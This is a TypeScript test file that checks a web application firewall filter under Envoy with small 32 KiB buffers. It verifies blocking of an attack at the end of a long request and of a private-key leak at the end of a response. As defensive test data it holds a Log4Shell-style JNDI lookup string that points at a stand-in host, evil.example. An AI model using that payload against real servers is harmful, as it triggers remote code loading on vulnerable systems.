// A real Envoy whose buffers are smaller than what the filter would hold: 32 KiB, as gateways often have. Nothing may hang: what is held is
// let go when nothing more comes, and the event says so.
import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import { after, before, describe, test } from "node:test";
import { ENVOY_VERSIONS } from "../../scripts/envoy/binary.ts";
import { type Bootstrap, ProtectedApi, withTrailers } from "./protected-api.ts";

const LONG = JSON.stringify(Array.from({ length: 8000 }, (_, i) => `harmless text number ${i}`));
const LEAKS = JSON.stringify([...JSON.parse(LONG), "-----BEGIN RSA PRIVATE KEY-----"]);
const ATTACKS = JSON.stringify([...JSON.parse(LONG), "${jndi:ldap://evil.example/a}"]);

function withSmallBuffers(bootstrap: Bootstrap): void {
  withTrailers(bootstrap);
  const { listeners, clusters } = bootstrap.static_resources;
  listeners[0].per_connection_buffer_limit_bytes = 32_768;
  clusters[0].per_connection_buffer_limit_bytes = 32_768;
}

for (const version of ENVOY_VERSIONS) {
  // Each waits some seconds for the filter to notice: they wait together.
  describe(`buffers of 32 KiB, Envoy ${version}`, { concurrency: true }, () => {
    let api: ProtectedApi;
    before(async () => {
      const configuration = JSON.stringify({
        ...{ mode: "block", hold_headers: true, block_rules: ["wg-resp-004"], response_body: "BUFFERED" },
        routes: [{ match: { path_prefix: "/strict" }, on_limit: "block" }],
      });
      api = await ProtectedApi.start({ version, configuration, edit: withSmallBuffers });
    });
    after(async () => {
      await api?.assertHealthy();
      await api?.stop();
    });

    async function send(path: string, body: string, reply?: string) {
      const id = randomUUID();
      const whole = `${path}/${id}`;
      const headers = { "content-type": "application/json", "x-test-id": id };
      if (reply !== undefined) api.upstream.reply(id, { status: 200, headers, body: reply });
      const client = await api.http1();
      try {
        const response = await client.request({
          method: "POST",
          path: whole,
          headers,
          body,
          framing: "chunked",
        });
        return { response, ...(await api.traffic.of(whole)), request: api.upstream.of(id)[0] };
      } finally {
        client.close();
      }
    }

    test("a long harmless request → passes whole, limit request_body", async () => {
      const { response, event, request } = await send("/a", LONG);
      assert.equal(response.status, 200);
      assert.equal(request?.body.toString(), LONG);
      assert.deepEqual(event?.limits, ["request_body"]);
    });

    test("an attack at the end of one → the upstream never has the whole request", async () => {
      const { response, event, request } = await send("/a", ATTACKS);
      assert.equal(response.status, 403);
      assert.equal(request?.complete ?? false, false);
      assert.equal(event?.action, "block");
    });

    test("a long harmless response → passes whole, limit response_body", async () => {
      const { response, event } = await send("/a", "[]", LONG);
      assert.deepEqual([response.status, response.body.toString()], [200, LONG]);
      assert.deepEqual(event?.limits, ["response_body"]);
    });

    test("a leak at the end of one → the client never has the whole response", async () => {
      await assert.rejects(send("/a", "[]", LEAKS));
    });

    test("on_limit block → 403, the upstream saw nothing", async () => {
      const { response, request } = await send("/strict", LONG);
      assert.equal(response.status, 403);
      assert.equal(request, undefined);
    });
  });
}
